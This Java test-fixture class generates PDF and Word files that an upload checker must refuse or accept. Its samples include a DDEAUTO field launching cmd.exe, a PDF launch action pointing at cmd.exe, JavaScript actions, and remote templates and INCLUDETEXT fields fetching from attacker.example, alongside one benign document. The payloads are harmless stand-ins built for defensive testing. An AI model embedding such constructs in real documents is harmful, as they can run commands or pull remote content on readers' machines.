package org.safeguardinghub.infrastructure;

import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
import org.apache.poi.openxml4j.opc.PackagingURIHelper;
import org.apache.poi.openxml4j.opc.TargetMode;
import org.apache.poi.xwpf.usermodel.Document;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.apache.poi.xwpf.usermodel.XWPFParagraph;
import org.openxmlformats.schemas.wordprocessingml.x2006.main.STFldCharType;

/**
 * Real PDF and Word documents carrying what uploads must refuse (scripts, launch actions, macros,
 * remote content, embedded objects), and ordinary ones with links, pictures and tables that must
 * still be accepted. Made with the same libraries that check uploads, so they are what a desktop
 * reader would open.
 */
public final class RiskyDocuments {

    private static final String JAVASCRIPT = "app.alert('hello');";
    private static final String RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private RiskyDocuments() {
    }

    @FunctionalInterface
    interface PdfChange {
        void apply(PDDocument document, PDPage page) throws IOException;
    }

    @FunctionalInterface
    interface WordChange {
        void apply(XWPFDocument document) throws Exception;
    }

    public static byte[] pdfWithJavaScriptOpenAction() throws IOException {
        return pdf((document, page) -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(JAVASCRIPT)));
    }

    public static byte[] pdfWithDocumentJavaScript() throws IOException {
        return pdf((document, page) -> {
            var scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("start", new PDActionJavaScript(JAVASCRIPT)));
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        });
    }

    public static byte[] pdfWithJavaScriptLink() throws IOException {
        return pdf((document, page) -> link(page, new PDActionJavaScript(JAVASCRIPT)));
    }

    public static byte[] pdfWithLaunchAction() throws IOException {
        return pdf((document, page) -> {
            var launch = new PDActionLaunch();
            launch.setFile(new PDSimpleFileSpecification(new COSString("C:\\Windows\\System32\\cmd.exe")));
            link(page, launch);
        });
    }

    public static byte[] pdfWithFormFieldJavaScript() throws IOException {
        return pdf((document, page) -> {
            var form = new PDAcroForm(document);
            document.getDocumentCatalog().setAcroForm(form);
            var field = new PDTextField(form);
            field.setPartialName("name");
            var actions = new PDFormFieldAdditionalActions();
            actions.setK(new PDActionJavaScript(JAVASCRIPT));
            field.setActions(actions);
            var widget = field.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(72, 600, 200, 20));
            widget.setPage(page);
            page.getAnnotations().add(widget);
            form.getFields().add(field);
        });
    }

    /** A script on a bookmark, which the walk through the object model does not visit: the second line must catch it. */
    public static byte[] pdfWithJavaScriptBookmark() throws IOException {
        return pdf((document, page) -> {
            var outline = new PDDocumentOutline();
            var bookmark = new PDOutlineItem();
            bookmark.setTitle("Start");
            bookmark.setAction(new PDActionJavaScript(JAVASCRIPT));
            outline.addLast(bookmark);
            document.getDocumentCatalog().setDocumentOutline(outline);
        });
    }

    public static byte[] pdfWithAttachedFile() throws IOException {
        return pdf((document, page) -> {
            var file = new PDEmbeddedFile(document, new ByteArrayInputStream("MZ".getBytes(StandardCharsets.US_ASCII)));
            var specification = new PDComplexFileSpecification();
            specification.setFile("setup.exe");
            specification.setEmbeddedFile(file);
            var files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("setup.exe", specification));
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });
    }

    public static byte[] pdfWithWebLink() throws IOException {
        return pdf((document, page) -> {
            var uri = new PDActionURI();
            uri.setURI("https://www.gov.uk/");
            link(page, uri);
        });
    }

    public static byte[] wordWithMacroProject() throws Exception {
        return word(document -> {
            var name = PackagingURIHelper.createPartName("/word/vbaProject.bin");
            var part = document.getPackage().createPart(name, "application/vnd.ms-office.vbaProject");
            try (var out = part.getOutputStream()) {
                out.write(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0});
            }
            document.getPackagePart().addRelationship(name, TargetMode.INTERNAL,
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject");
        });
    }

    /** A .docm renamed as .docx: its main part declares itself macro-enabled. */
    public static byte[] wordDeclaredMacroEnabled() throws Exception {
        return replaceInZipEntry(TestDocuments.docx("Renamed"), "[Content_Types].xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                "application/vnd.ms-word.document.macroEnabled.main+xml");
    }

    public static byte[] wordWithRemoteTemplate() throws Exception {
        return word(document -> {
            var settings = document.getSettings() == null ? document.getPackagePart()
                    : document.getSettings().getPackagePart();
            settings.addExternalRelationship("https://attacker.example/template.dotm", RELATIONSHIPS + "attachedTemplate");
        });
    }

    public static byte[] wordWithLinkedPicture() throws Exception {
        return word(document -> document.getPackagePart()
                .addExternalRelationship("file://attacker.example/share/logo.png", RELATIONSHIPS + "image"));
    }

    public static byte[] wordWithOleObject() throws Exception {
        return word(document -> {
            var name = PackagingURIHelper.createPartName("/word/embeddings/oleObject1.bin");
            var part = document.getPackage().createPart(name, "application/vnd.openxmlformats-officedocument.oleObject");
            try (var out = part.getOutputStream()) {
                out.write(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0});
            }
            document.getPackagePart().addRelationship(name, TargetMode.INTERNAL, RELATIONSHIPS + "oleObject");
        });
    }

    public static byte[] wordWithActiveXControl() throws Exception {
        return word(document -> {
            var name = PackagingURIHelper.createPartName("/word/activeX/activeX1.xml");
            var part = document.getPackage().createPart(name, "application/vnd.ms-office.activeX+xml");
            try (var out = part.getOutputStream()) {
                out.write("<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>"
                        .getBytes(StandardCharsets.UTF_8));
            }
            document.getPackagePart().addRelationship(name, TargetMode.INTERNAL, RELATIONSHIPS + "control");
        });
    }

    /** INCLUDETEXT split over two runs, as Word writes it after editing. */
    public static byte[] wordWithIncludeTextField() throws Exception {
        return word(document -> {
            var paragraph = document.createParagraph();
            fieldMark(paragraph, STFldCharType.BEGIN);
            paragraph.createRun().getCTR().addNewInstrText().setStringValue(" INCLUDE");
            paragraph.createRun().getCTR().addNewInstrText().setStringValue("TEXT \"https://attacker.example/a.docx\" ");
            fieldMark(paragraph, STFldCharType.SEPARATE);
            paragraph.createRun().setText("included");
            fieldMark(paragraph, STFldCharType.END);
        });
    }

    public static byte[] wordWithDdeField() throws Exception {
        return word(document -> document.createParagraph().getCTP().addNewFldSimple()
                .setInstr("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\""));
    }

    /** What partners really upload: a hyperlink, a picture, a table and a page number field. */
    public static byte[] ordinaryWordDocument() throws Exception {
        return word(document -> {
            var paragraph = document.createParagraph();
            paragraph.createRun().setText("See the guidance at ");
            paragraph.createHyperlinkRun("https://www.gov.uk/").setText("GOV.UK");
            var image = new BufferedImage(4, 4, BufferedImage.TYPE_INT_RGB);
            var png = new ByteArrayOutputStream();
            ImageIO.write(image, "png", png);
            document.createParagraph().createRun().addPicture(new ByteArrayInputStream(png.toByteArray()),
                    Document.PICTURE_TYPE_PNG, "logo.png", 100_000, 100_000);
            var table = document.createTable(2, 2);
            table.getRow(0).getCell(0).setText("Agency");
            table.getRow(0).getCell(1).setText("Attendance");
            var footer = document.createParagraph();
            fieldMark(footer, STFldCharType.BEGIN);
            footer.createRun().getCTR().addNewInstrText().setStringValue(" PAGE ");
            fieldMark(footer, STFldCharType.SEPARATE);
            footer.createRun().setText("1");
            fieldMark(footer, STFldCharType.END);
            document.createParagraph().getCTP().addNewFldSimple().setInstr(" HYPERLINK \"https://www.gov.uk/\" ");
        });
    }

    private static void fieldMark(XWPFParagraph paragraph, STFldCharType.Enum type) {
        paragraph.createRun().getCTR().addNewFldChar().setFldCharType(type);
    }

    private static void link(PDPage page, PDAction action) throws IOException {
        var link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, 650, 200, 20));
        link.setAction(action);
        page.getAnnotations().add(link);
    }

    private static byte[] pdf(PdfChange change) throws IOException {
        try (var document = new PDDocument(); var out = new ByteArrayOutputStream()) {
            var page = new PDPage();
            document.addPage(page);
            change.apply(document, page);
            document.save(out);
            return out.toByteArray();
        }
    }

    private static byte[] word(WordChange change) throws Exception {
        try (var document = new XWPFDocument(); var out = new ByteArrayOutputStream()) {
            document.createParagraph().createRun().setText("Terms of reference");
            change.apply(document);
            document.write(out);
            return out.toByteArray();
        }
    }

    private static byte[] replaceInZipEntry(byte[] zip, String entry, String from, String to) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var in = new ZipInputStream(new ByteArrayInputStream(zip)); var rewritten = new ZipOutputStream(out)) {
            for (var next = in.getNextEntry(); next != null; next = in.getNextEntry()) {
                var content = in.readAllBytes();
                if (next.getName().equals(entry)) {
                    content = new String(content, StandardCharsets.UTF_8).replace(from, to).getBytes(StandardCharsets.UTF_8);
                }
                rewritten.putNextEntry(new ZipEntry(next.getName()));
                rewritten.write(content);
                rewritten.closeEntry();
            }
        }
        return out.toByteArray();
    }
}
